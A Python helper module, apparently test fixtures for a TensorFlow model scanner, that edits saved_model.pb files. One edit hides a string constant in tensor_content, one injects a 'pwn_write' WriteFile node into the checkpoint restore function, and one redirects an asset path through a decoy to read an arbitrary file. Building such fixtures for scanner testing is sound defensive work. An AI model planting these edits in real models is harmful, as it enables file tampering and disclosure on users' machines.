"""Edits to a saved ``saved_model.pb`` that a scanner must see through, made with
TensorFlow's own protos after a normal save.

Example:
    >>> encode_strings([b"ab", b"c"])
    b'\\x02\\x01abc'
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

from tensorflow.core.framework import node_def_pb2, types_pb2
from tensorflow.core.protobuf import saved_model_pb2

__all__ = [
    "add_restore_write",
    "encode_strings",
    "move_string_to_tensor_content",
    "retarget_tf1_asset",
]


def _read(file: Path) -> Any:
    model = saved_model_pb2.SavedModel()
    model.ParseFromString(file.read_bytes())
    return model


def _nodes(model: Any) -> Iterator[Any]:
    for meta in model.meta_graphs:
        yield from meta.graph_def.node
        for function in meta.graph_def.library.function:
            yield from function.node_def


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        if value:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


def encode_strings(values: list[bytes]) -> bytes:
    """A string tensor's ``tensor_content``: every length as a varint, then the bytes."""
    return b"".join(_varint(len(v)) for v in values) + b"".join(values)


def move_string_to_tensor_content(file: Path, value: str) -> int:
    """Every Const holding ``value`` in ``string_val`` holds it in ``tensor_content``.

    Returns:
        How many Const nodes changed.
    """
    model = _read(file)
    changed = 0
    for node in _nodes(model):
        if node.op != "Const":
            continue
        tensor = node.attr["value"].tensor
        if list(tensor.string_val) == [value.encode()]:
            del tensor.string_val[:]
            tensor.tensor_content = encode_strings([value.encode()])
            changed += 1
    file.write_bytes(model.SerializeToString())
    return changed


def _const(name: str, value: bytes) -> Any:
    node = node_def_pb2.NodeDef(name=name, op="Const")
    node.attr["dtype"].type = types_pb2.DT_STRING
    tensor = node.attr["value"].tensor
    tensor.dtype = types_pb2.DT_STRING
    tensor.string_val.append(value)
    return node


def add_restore_write(file: Path, target: str) -> str:
    """Add a WriteFile of ``target`` to the checkpoint restore function
    (``__inference__traced_restore_*``), as one of its control outputs.

    Returns:
        The function's name.
    """
    model = _read(file)
    for function in model.meta_graphs[0].graph_def.library.function:
        if function.signature.name.startswith("__inference__traced_restore"):
            break
    else:  # pragma: no cover - every model with variables has one
        raise ValueError(f"Expected a _traced_restore function in {file}. Received: none.")
    function.node_def.extend(
        [_const("pwn_path", target.encode()), _const("pwn_contents", b"pwned")]
    )
    write = node_def_pb2.NodeDef(
        name="pwn_write", op="WriteFile", input=["pwn_path:output:0", "pwn_contents:output:0"]
    )
    function.node_def.append(write)
    function.signature.control_output.append("pwn_write")
    function.control_ret["pwn_write"] = "pwn_write"
    for node in function.node_def:  # the returned Identity waits for the write
        if node.op == "Identity" and node.name.startswith("Identity"):
            node.input.append("^pwn_write")
    file.write_bytes(model.SerializeToString())
    return str(function.signature.name)


def retarget_tf1_asset(file: Path, const_name: str, path: str) -> None:
    """The asset list points at a new decoy Const; ``const_name`` holds ``path`` instead.

    The loader feeds the asset's real file into the decoy, so the model reads ``path``.
    """
    model = _read(file)
    meta = model.meta_graphs[0]
    for node in meta.graph_def.node:
        if node.name == const_name:
            tensor = node.attr["value"].tensor
            del tensor.string_val[:]
            tensor.string_val.append(path.encode())
    meta.graph_def.node.append(_const("decoy_asset_path", b"vocab.txt"))
    for asset in meta.asset_file_def:
        asset.tensor_info.name = "decoy_asset_path:0"
    collection = meta.collection_def.get("asset_filepaths")
    if collection is not None:
        del collection.node_list.value[:]
        collection.node_list.value.append("decoy_asset_path:0")
    file.write_bytes(model.SerializeToString())
